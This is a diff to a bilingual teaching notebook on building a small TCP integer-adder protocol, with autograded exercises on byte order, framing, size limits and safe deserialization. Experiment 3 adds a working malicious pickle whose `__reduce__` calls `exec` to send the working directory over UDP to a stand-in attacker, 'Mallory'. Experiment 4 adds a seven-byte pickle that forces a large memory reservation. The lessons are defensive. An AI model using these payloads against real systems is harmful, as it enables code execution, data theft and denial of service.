@@ -9,6 +9,8 @@
 # - remettre dans un flux les limites que TCP n’a pas ;
 # - choisir l’ordre des octets, et le dire ;
 # - lire un `pickle` venu d’un inconnu sans lui obéir.
+#
+# Chaque expérience se joue en trois temps : devinez, lancez la cellule (Maj+Entrée), lisez l’explication.
 
 # %% [markdown] lang="en"
 # # A protocol of your own: the integer adder
@@ -21,12 +23,16 @@
 # - put back into a stream the limits that TCP does not have;
 # - choose the order of bytes, and say so;
 # - read a `pickle` from a stranger without obeying it.
+#
+# Each experiment has three steps: guess, run the cell (Shift+Enter), read the explanation.
 
 # %%
 from autograder import check
 
 # %% [markdown] lang="fr"
-# ## Ce qui passe sur le fil
+# ## Ce qui passe sur le réseau
+#
+# Un protocole est ce dont les deux bouts conviennent. Sa spécification dit s’il est en texte ou en binaire, quels messages sont valides, comment chacun est fait, sa version, les erreurs et qui s’en occupe. Voici le nôtre, version 1 :
 #
 # ```
 # client                                  serveur
@@ -37,12 +43,14 @@ from autograder import check
 #   |-- (j’ai fini) ----------------------->|
 # ```
 #
-# - Une **question** : 4 octets, la taille de ce qui suit, sans signe, poids fort d’abord ; au plus 1 048 576. Puis la liste, en `pickle`.
-# - Une **réponse** : 8 octets, la somme, avec signe, poids fort d’abord.
-# - À la moindre erreur, le serveur **ferme sans répondre**, et sert le client suivant.
+# - Une **question** : 4 octets, la taille de ce qui suit, sans signe, octet de poids fort d’abord ; au plus 1 048 576. Puis la liste, en `pickle`.
+# - Une **réponse** : 8 octets, la somme, avec signe, octet de poids fort d’abord.
+# - À la moindre erreur, le serveur **ferme sans répondre**, et sert le client suivant. Un message d’erreur serait pris pour une somme : huit octets sont huit octets.
 
 # %% [markdown] lang="en"
-# ## What happens on the wire
+# ## What happens on the network
+#
+# A protocol is what both ends have agreed on. Its specification says whether it is text or binary, which messages are valid, how each is made, its version, the errors and who deals with them. Here is ours, version 1:
 #
 # ```
 # client                                  server
@@ -55,32 +63,41 @@ from autograder import check
 #
 # - A **request**: 4 bytes, the size of what follows, unsigned, most significant byte first; at most 1,048,576. Then the list, as a `pickle`.
 # - A **reply**: 8 bytes, the sum, signed, most significant byte first.
-# - On any error the server **closes without a reply**, and serves the next client.
+# - On any error the server **closes without a reply**, and serves the next client. An error message would be taken for a sum: eight bytes are eight bytes.
 
 # %% [markdown] lang="fr"
 # ## Expérience 1 : dans quel ordre ?
 #
-# `struct` range un nombre dans des octets. **Devinez d’abord** : ces trois lignes affichent-elles la même chose ? Et que lira celui qui se trompe d’ordre ?
+# Il y a trois façons de mettre un objet en octets : le texte (`encode`), `pickle` pour les objets de Python, `struct` pour les nombres. Un serveur du kit, à côté du carnet, lit une taille de 4 octets comme notre protocole le veut, et dit combien d’octets il attend. Nous lui envoyons 20 de trois façons. **Devinez d’abord** : que lit-il chaque fois ?
 
 # %% [markdown] lang="en"
 # ## Experiment 1: in which order?
 #
-# `struct` packs a number into bytes. **Guess first**: do these three lines print the same? And what will somebody read who gets the order wrong?
+# There are three ways to turn an object into bytes: text (`encode`), `pickle` for Python’s objects, `struct` for numbers. A server of the kit, beside the notebook, reads a size of 4 bytes as our protocol wants it, and says how many bytes it waits for. We send it 20 in three ways. **Guess first**: what does it read each time?
 
 # %%
+import socket
 import struct
 
-print(struct.pack("!I", 20))
-print(struct.pack("<I", 20))
-print(struct.pack("I", 20))
+from autograder import beside
 
-print(struct.unpack("!I", struct.pack("<I", 20)))
+
+def answer(size):
+    return f"I wait for {struct.unpack('!I', size)[0]:,} bytes".encode()
+
+
+with beside.answers(answer) as address:
+    for form in ("!I", "<I", "I"):
+        with socket.create_connection(address, timeout=2) as sock:
+            sock.sendall(struct.pack(form, 20))
+            sock.shutdown(socket.SHUT_WR)
+            print(form, struct.pack(form, 20).hex(" "), sock.recv(100).decode())
 
 # %% [markdown] lang="fr"
-# Sans préfixe, l’ordre est celui **de la machine**, presque toujours l’inverse de celui du réseau. Lue à l’envers, la taille 20 devient 335 millions : l’autre bout attend, et personne ne voit d’erreur. `!` veut dire « ordre du réseau » ; écrivez-le toujours. Et `I` a 4 octets sans signe : il vous faudra autre chose pour 8 octets avec signe.
+# Sans préfixe, l’ordre est celui **de la machine**, presque toujours l’inverse de celui du réseau. Lue à l’envers, la taille 20 devient 335 millions : l’autre bout attend, et personne ne voit d’erreur. `!` veut dire « ordre du réseau » ; écrivez-le toujours. Et `I`, ce sont 4 octets sans signe : il vous faudra une autre lettre pour 8 octets avec signe.
 
 # %% [markdown] lang="en"
-# Without a prefix the order is the **machine’s**, nearly always the opposite of the network’s. Read the wrong way round, the size 20 becomes 335 million: the other end waits, and nobody sees an error. `!` means “network order”; always write it. And `I` has 4 bytes without a sign: you will need something else for 8 bytes with one.
+# Without a prefix the order is the **machine’s**, nearly always the opposite of the network’s. Read the wrong way round, the size 20 becomes 335 million: the other end waits, and nobody sees an error. `!` means “network order”; always write it. And `I` is 4 bytes without a sign: you will need another letter for 8 bytes with one.
 
 # %% [markdown] lang="fr"
 # ## Expérience 2 : un en-tête de quatre octets, en combien de morceaux ?
@@ -93,68 +110,67 @@ print(struct.unpack("!I", struct.pack("<I", 20)))
 # A server sends a header of 4 bytes. **Guess first**: does `recv(4)` return 4 bytes?
 
 # %%
-import socket
-
-from autograder import beside
-
 with beside.speaks(b"\x00\x00", b"\x00\x14", pause=0.2) as address:
     with socket.create_connection(address, timeout=2) as sock:
         print(sock.recv(4))
         print(sock.recv(4))
 
 # %% [markdown] lang="fr"
-# Même quatre octets peuvent arriver en deux fois. « Exactement tant d’octets » demande toujours une boucle : celle de `receive_exactly`, dans l’exercice 5. Elle sert deux fois par question : pour l’en-tête, puis pour ce qu’il annonce.
+# Même quatre octets peuvent arriver en deux fois. « Exactement tant d’octets » demande toujours une boucle : celle de `receive_exactly`, dans l’exercice 5. Elle sert deux fois par question : pour l’en-tête, puis pour ce qu’il annonce. (`sock.makefile("rb")` fait de la connexion un fichier, dont `read(4)` contient cette boucle : les expériences suivantes s’en servent.)
 
 # %% [markdown] lang="en"
-# Even four bytes may arrive in two goes. “Exactly so many bytes” always takes a loop: that of `receive_exactly`, in exercise 5. It is needed twice for each request: for the header, then for what it announces.
+# Even four bytes may arrive in two goes. “Exactly so many bytes” always takes a loop: that of `receive_exactly`, in exercise 5. It is needed twice for each request: for the header, then for what it announces. (`sock.makefile("rb")` makes a file of the connection, whose `read(4)` has that loop in it: the next experiments use it.)
 
 # %% [markdown] lang="fr"
 # ## Expérience 3 : ouvrir un cadeau d’inconnu
 #
-# Ces octets prétendent contenir une liste d’entiers. **Devinez d’abord** : que peut faire, au pire, `pickle.loads` ?
+# Un serveur prétend envoyer une liste d’entiers, en `pickle`. C’est Mallory qui l’a préparée ; elle attend à côté, sur un port UDP. Notre programme ne fait que **lire** cette liste. **Devinez d’abord** : que peut recevoir Mallory, à qui nous n’envoyons rien ?
 
 # %% [markdown] lang="en"
 # ## Experiment 3: opening a stranger’s present
 #
-# These bytes claim to hold a list of integers. **Guess first**: what is the worst that `pickle.loads` can do?
+# A server claims to send a list of integers, as a `pickle`. Mallory has prepared it; she waits beside the notebook, on a UDP port. Our program only **reads** that list. **Guess first**: what can Mallory receive, to whom we send nothing?
 
 # %%
 import pickle
 
+SPY = "import os, socket; socket.socket(type=socket.SOCK_DGRAM).sendto(os.getcwd().encode(), {})"
 
-class Gift:
+
+class Present:
     def __reduce__(self):
-        return print, ("somebody else's code has just run here",)
+        return exec, (SPY.format(mallory.address),)
 
 
-parcel = pickle.dumps(Gift())
-print(parcel)
-print("the list is", pickle.loads(parcel))
+with beside.correspondent() as mallory:
+    parcel = pickle.dumps(Present())
+    with beside.speaks(parcel) as address, socket.create_connection(address, timeout=2) as sock:
+        print("the list is", pickle.load(sock.makefile("rb")))
+    print("Mallory received", mallory.receives())
 
 # %% [markdown] lang="fr"
-# Un `pickle` n’est pas une donnée, c’est un **programme** : il nomme une fonction et ses arguments, et `loads` l’appelle. Ici, `print` ; ailleurs, n’importe quoi. Vérifier le résultat ensuite ne sert à rien : c’est déjà fait.
+# Le nom de votre dossier ! Un `pickle` n’est pas une donnée, c’est un **programme** : il nomme une fonction et ses arguments, et le lire, c’est l’appeler. Ici `exec`, qui aurait aussi bien pu effacer vos fichiers. Vérifier ensuite que l’on a bien une liste ne sert à rien : c’est déjà fait.
 #
-# Pour nos entiers, il suffit d’un lecteur qui ne trouve **aucune** fonction :
+# Pour nos entiers, il suffit d’un lecteur qui ne trouve **aucune** fonction. **Devinez d’abord** : lit-il encore une vraie liste ?
 
 # %% [markdown] lang="en"
-# A `pickle` is not data, it is a **program**: it names a function and its arguments, and `loads` calls it. Here `print`; elsewhere anything. To check the result afterwards is of no use: it has happened.
+# The name of your folder! A `pickle` is not data, it is a **program**: it names a function and its arguments, and to read it is to call it. Here `exec`, which might as well have deleted your files. To check afterwards that one has got a list is of no use: it has happened.
 #
-# For our integers, a reader that finds **no** function is enough:
+# For our integers, a reader that finds **no** function is enough. **Guess first**: does it still read a real list?
+
 
 # %%
-import io
-
-
 class Careful(pickle.Unpickler):
     def find_class(self, module, name):
         raise pickle.UnpicklingError(f"nobody asked for {module}.{name}")
 
 
-print(Careful(io.BytesIO(pickle.dumps([20, 22]))).load())
-try:
-    Careful(io.BytesIO(parcel)).load()
-except pickle.UnpicklingError as error:
-    print("refused:", error)
+for sent in (pickle.dumps([20, 22]), parcel):
+    with beside.speaks(sent) as address, socket.create_connection(address, timeout=2) as sock:
+        try:
+            print(Careful(sock.makefile("rb")).load())
+        except pickle.UnpicklingError as error:
+            print("refused:", error)
 
 # %% [markdown] lang="fr"
 # Attention : un `pickle` cassé peut lever bien d’autres erreurs (`EOFError`, `ValueError`, `IndexError`…). Votre fonction n’en promet qu’une : `ValueError`.
@@ -163,32 +179,81 @@ except pickle.UnpicklingError as error:
 # Careful: a broken `pickle` may raise many other errors (`EOFError`, `ValueError`, `IndexError`…). Your function promises one only: `ValueError`.
 
 # %% [markdown] lang="fr"
-# ## Expérience 4 : croire la taille annoncée
+# ## Expérience 4 : que coûtent quelques octets ?
 #
-# Un client annonce 4 milliards d’octets, et n’en envoie aucun. **Devinez d’abord** : que coûte une simple annonce à un serveur qui réserve la place d’avance ? Et que vaut `True + True` ?
+# Deux inconnus nous envoient quelques octets. Le premier annonce une taille de cent millions, et n’envoie rien de plus. Le second envoie un `pickle` de sept octets, que lit notre lecteur prudent. **Devinez d’abord** : combien de mémoire chacun nous fait-il réserver ?
 
 # %% [markdown] lang="en"
-# ## Experiment 4: believing the announced size
+# ## Experiment 4: what do a few bytes cost?
 #
-# A client announces 4 billion bytes, and sends none. **Guess first**: what does a mere announcement cost a server that reserves the room beforehand? And what is `True + True`?
+# Two strangers send us a few bytes. The first announces a size of a hundred million, and sends nothing more. The second sends a `pickle` of seven bytes, which our careful reader reads. **Guess first**: how much memory does each make us reserve?
 
 # %%
-(announced,) = struct.unpack("!I", b"\xff\xff\xff\xff")
-print(f"{announced:,} bytes announced by 4 bytes")
+import tracemalloc
 
-print(isinstance(True, int), True + True, bool is int)
+with beside.speaks(b"\x06\x00\x00\x00") as address:
+    with socket.create_connection(address, timeout=2) as sock, sock.makefile("rb") as stream:
+        (announced,) = struct.unpack("!I", stream.read(4))
+        tracemalloc.start()
+        print(f"{announced:,} bytes announced, {len(stream.read(announced))} came")
+        print(f"{tracemalloc.get_traced_memory()[1]:,} bytes reserved")
+        tracemalloc.stop()
+
+# %%
+with beside.speaks(b"]r\x00\x00\x40\x00.") as address:
+    with socket.create_connection(address, timeout=2) as sock, sock.makefile("rb") as stream:
+        tracemalloc.start()
+        print("the list is", Careful(stream).load())
+        print(f"{tracemalloc.get_traced_memory()[1]:,} bytes reserved")
+        tracemalloc.stop()
 
 # %% [markdown] lang="fr"
-# Quatre octets peuvent en faire réserver quatre milliards : c’est pourquoi la spécification fixe un maximum, et que l’on **vérifie avant de lire**. Et un `bool` passe pour un `int` si l’on demande `isinstance` : notre protocole le refuse.
+# Quatre octets en ont fait réserver cent millions : c’est pourquoi la spécification fixe un maximum, et que l’on **vérifie la taille avant de lire**.
+#
+# Et sept octets passent sous n’importe quel maximum ! Ils disent « rangez cette liste vide à la quatre-millionième place » : le lecteur prudent n’appelle aucune fonction, mais il prépare toutes les places. Avec un plus grand nombre, la mémoire n’y suffirait pas. `find_class` vous protège des fonctions d’un inconnu, pas de cela. C’est pourquoi les vrais protocoles se passent de `pickle` : du JSON, du texte, ou des nombres avec `struct`.
 
 # %% [markdown] lang="en"
-# Four bytes can have four billion reserved: that is why the specification sets a limit, and why one **checks before reading**. And a `bool` passes for an `int` when one asks `isinstance`: our protocol refuses it.
+# Four bytes had a hundred million reserved: that is why the specification sets a limit, and why one **checks the size before reading**.
+#
+# And seven bytes are below any limit! They say “put this empty list into place number four million”: the careful reader calls no function, but it prepares all the places. With a larger number there would not be memory enough. `find_class` protects you from a stranger’s functions, not from this. That is why real protocols do without `pickle`: JSON, text, or numbers with `struct`.
+
+# %% [markdown] lang="fr"
+# ## Expérience 5 : qu’est-ce qu’une liste d’entiers ?
+#
+# Ce serveur vérifie que chaque élément est un `int`, puis rend la somme. **Devinez d’abord** : laquelle de ces trois questions refuse-t-il ?
+
+# %% [markdown] lang="en"
+# ## Experiment 5: what is a list of integers?
+#
+# This server checks that each element is an `int`, then returns the sum. **Guess first**: which of these three requests does it refuse?
+
+# %%
+import io
+
+
+def add(payload):
+    numbers = Careful(io.BytesIO(payload)).load()
+    return str(sum(numbers)).encode() if all(isinstance(n, int) for n in numbers) else b"refused"
+
+
+with beside.answers(add) as address:
+    for numbers in ([20, 22], [True, True], {10: "ten", 20: "twenty"}):
+        with socket.create_connection(address, timeout=2) as sock:
+            sock.sendall(pickle.dumps(numbers))
+            sock.shutdown(socket.SHUT_WR)
+            print(numbers, "gives", sock.recv(100).decode())
+
+# %% [markdown] lang="fr"
+# Aucune ! Pour Python, `True` est un `int` (il vaut 1), et parcourir un dictionnaire donne ses clés. Notre protocole refuse les deux : il veut une liste, et des `int` qui ne soient pas des `bool`. Une spécification se vérifie mot à mot.
+
+# %% [markdown] lang="en"
+# None! To Python `True` is an `int` (it is worth 1), and going through a dictionary gives its keys. Our protocol refuses both: it wants a list, and each `int` not to be a `bool`. A specification is checked word by word.
 
 # %% [markdown] lang="fr"
 # ## Le contrat, première partie : des octets et des nombres
 #
 # - `encode_request(numbers)` rend les octets d’une question. `ValueError` pour ce que le protocole interdit : autre chose qu’une liste d’`int`, un contenu au-dessus de la limite.
-# - `decode_payload(payload)` rend la liste que contiennent ces octets (sans la taille). N’importe et n’appelle rien, quoi qu’ils demandent. `ValueError` pour tout ce qui n’est pas une simple liste d’`int`.
+# - `decode_payload(payload)` rend la liste que contiennent ces octets (sans la taille). Elle n’importe rien et n’appelle rien, quoi qu’ils demandent. `ValueError` pour tout ce qui n’est pas une simple liste d’`int`.
 # - `encode_sum(total)` rend les octets d’une réponse ; `ValueError` si la somme n’y tient pas, et pour un `bool`.
 # - `decode_sum(data)` rend la somme ; `ValueError` s’il n’y a pas 8 octets.
 #
@@ -222,7 +287,7 @@ check("ex07.decode_sum")
 # - `AdderServer(host="127.0.0.1", port=0)` lie et écoute aussitôt ; `address` dit où.
 # - `run()` sert les clients, l’un après l’autre ou plusieurs à la fois, jusqu’à `stop()`. Une connexion peut porter plusieurs questions, chacune après la réponse à la précédente, ou toutes d’un coup.
 # - À la moindre erreur (taille trop grande, fin trop tôt, contenu qui n’est pas une simple liste d’`int`, somme qui ne tient pas), la connexion est fermée **sans réponse**, et le client suivant est servi.
-# - `_stopped` est regardé au moins une fois par seconde ; quand `run` revient, tout est fermé.
+# - `run` regarde `_stopped` au moins une fois par seconde, même quand un client est connecté et se tait ; quand elle revient, tout est fermé. `stop()` est donnée.
 
 # %% [markdown] lang="en"
 # ## The contract, part two: the server
@@ -230,7 +295,7 @@ check("ex07.decode_sum")
 # - `AdderServer(host="127.0.0.1", port=0)` binds and listens at once; `address` says where.
 # - `run()` serves clients, one after the other or several at once, until `stop()`. One connection may carry several requests, each after the reply to the one before, or all in a row.
 # - On any error (a size that is too large, an early end, a payload that is no plain list of `int`, a sum that does not fit) the connection is closed **without a reply**, and the next client is served.
-# - `_stopped` is looked at once a second at least; when `run` returns, everything is closed.
+# - `run` looks at `_stopped` once a second at least, also while a client is connected and silent; when it returns, everything is closed. `stop()` is given.
 
 # %% tags=["check"]
 check("ex07.AdderServer")
@@ -253,12 +318,12 @@ check("ex07.AdderClient")
 # %% [markdown] lang="fr"
 # ## Question
 #
-# Un collègue propose de remplacer `pickle` par du texte : les nombres en décimal, séparés par des espaces, puis une fin de ligne. Plus besoin de taille. Qu’y gagne-t-on, qu’y perd-on ? Comment le serveur sait-il alors qu’une question est finie ? Répondez en cinq phrases environ.
+# Un collègue propose de remplacer `pickle` par du texte : les nombres en décimal, séparés par des espaces, puis une fin de ligne. On n’a plus besoin de taille. Qu’y gagne-t-on, qu’y perd-on ? Comment le serveur sait-il alors qu’une question est finie ? Répondez en cinq phrases environ, dans la cellule qui suit (double-cliquez dessus).
 
 # %% [markdown] lang="en"
 # ## Question
 #
-# A colleague proposes to replace `pickle` by text: the numbers in decimal, separated by spaces, then a line end. No more need for a size. What is gained, what is lost? How does the server then know that a request is over? Answer in about five sentences.
+# A colleague proposes to replace `pickle` by text: the numbers in decimal, separated by spaces, then a line end. No more need for a size. What is gained, what is lost? How does the server then know that a request is over? Answer in about five sentences, in the cell that follows (double-click it).
 
 # %% [markdown] tags=["answer"]
 
@@ -273,7 +338,7 @@ check("ex07.AdderClient")
 # - `bool-is-int` : laisser passer `True`.
 # - `one-request-per-connection` : fermer après la première réponse.
 #
-# `python -m autograder explain pickle-network` raconte chacune.
+# Chacune a sa leçon. Dans un terminal, par exemple : `python -m autograder explain pickle-network`.
 #
 # ## Pour continuer
 #
@@ -290,7 +355,7 @@ check("ex07.AdderClient")
 # - `bool-is-int`: letting `True` through.
 # - `one-request-per-connection`: closing after the first reply.
 #
-# `python -m autograder explain pickle-network` tells each.
+# Each has its lesson. In a terminal, for example: `python -m autograder explain pickle-network`.
 #
 # ## Where to go next
 #
